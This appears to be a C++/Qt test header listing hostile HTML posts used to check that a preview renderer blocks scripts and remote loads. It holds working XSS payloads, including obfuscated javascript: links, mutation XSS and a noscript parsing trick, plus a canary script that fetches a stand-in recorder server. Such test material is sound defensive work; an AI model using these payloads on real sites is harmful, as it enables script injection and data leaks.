#pragma once

// The hostile posts the security tests throw at the preview. "@CANARY@" is replaced by a script
// that records that it ran (top.__pwned, the title, and a request to the recorder), "@SERVER@"
// by the recorder's address. Each entry names what it tries.

#include <QList>
#include <QString>

namespace pw::test {

struct HostilePost
{
    const char *name;
    QString html;        // raw HTML, as a post could contain it
    QString clickTarget; // an element id the test clicks, or empty
};

inline QList<HostilePost> hostilePosts()
{
    return {
        {"script element", "<script>@CANARY@</script>", {}},
        {"script from a remote host", "<script src=\"@SERVER@/evil.js\"></script>", {}},
        {"img onerror", "<img src=\"x\" onerror=\"@CANARY@\">", {}},
        {"svg onload", "<svg onload=\"@CANARY@\"><circle r=\"5\"/></svg>", {}},
        {"details ontoggle",
         "<details open ontoggle=\"@CANARY@\"><summary>s</summary>d</details>",
         {}},
        {"autofocus onfocus", "<input autofocus onfocus=\"@CANARY@\">", {}},
        {"javascript: link", "<a id=\"pw-hostile\" href=\"javascript:@CANARY@\">click</a>",
         "pw-hostile"},
        {"javascript: link with entities",
         "<a id=\"pw-hostile\" href=\"jav&#x09;ascript&colon;@CANARY@\">click</a>", "pw-hostile"},
        {"data:text/html link",
         "<a id=\"pw-hostile\" href=\"data:text/html,&lt;script&gt;@CANARY@&lt;/script&gt;\">d</a>",
         "pw-hostile"},
        {"iframe srcdoc", "<iframe srcdoc=\"&lt;script&gt;@CANARY@&lt;/script&gt;\"></iframe>", {}},
        {"iframe to a remote page", "<iframe src=\"@SERVER@/frame.html\"></iframe>", {}},
        {"iframe data: document",
         "<iframe src=\"data:text/html,&lt;img src=@SERVER@/iframe-data.png&gt;\"></iframe>",
         {}},
        {"object and embed",
         "<object data=\"@SERVER@/object.swf\"></object><embed src=\"@SERVER@/embed.swf\">",
         {}},
        {"meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=@SERVER@/refresh\">", {}},
        {"base href",
         "<base href=\"@SERVER@/\"><img src=\"based.png\"><a id=\"pw-hostile\" "
         "href=\"page.html\">x</a>",
         "pw-hostile"},
        {"form submission",
         "<form action=\"@SERVER@/form\" method=\"post\"><input name=\"q\" value=\"secret\">"
         "<button id=\"pw-hostile\" type=\"submit\">go</button></form>",
         "pw-hostile"},
        {"css url() in a style attribute",
         "<div style=\"background-image:url(@SERVER@/style-attribute.png)\">x</div>",
         {}},
        {"css url() and @import in a style element",
         "<style>@import url(@SERVER@/import.css); body{background:url(@SERVER@/style-element.png)}"
         "@font-face{font-family:x;src:url(@SERVER@/font.woff)} p{font-family:x}</style><p>t</p>",
         {}},
        {"remote stylesheet and prefetch",
         "<link rel=\"stylesheet\" href=\"@SERVER@/sheet.css\"><link rel=\"prefetch\" "
         "href=\"@SERVER@/prefetch\"><link rel=\"dns-prefetch\" href=\"//example.invalid\">",
         {}},
        {"tracking pixel and media",
         "<img src=\"@SERVER@/pixel.png\"><video src=\"@SERVER@/video.mp4\" autoplay></video>"
         "<audio src=\"@SERVER@/audio.mp3\" autoplay></audio>"
         "<img srcset=\"@SERVER@/srcset.png 2x\">",
         {}},
        {"mutation XSS through math and style",
         "<math><mtext><table><mglyph><style><img src=x onerror=\"@CANARY@\"></style></mglyph>"
         "</table></mtext></math>",
         {}},
        {"noscript parsing differential",
         "<noscript><p title=\"</noscript><img src=x onerror=@CANARY@>\"></noscript>",
         {}},
    };
}

// No spaces or quotes, so it fits any attribute; the request goes first, as a frame of another
// origin cannot touch `top`.
inline QString canaryScript(const QString &server)
{
    return QStringLiteral("fetch(`%1/canary`,{mode:`no-cors`});top.__pwned=(top.__pwned||0)+1;"
                          "top.document.title=`pwned`")
        .arg(server);
}

inline QString armed(const QString &html, const QString &server)
{
    QString text = html;
    text.replace(QStringLiteral("@CANARY@"), canaryScript(server));
    text.replace(QStringLiteral("@SERVER@"), server);
    return text;
}

} // namespace pw::test
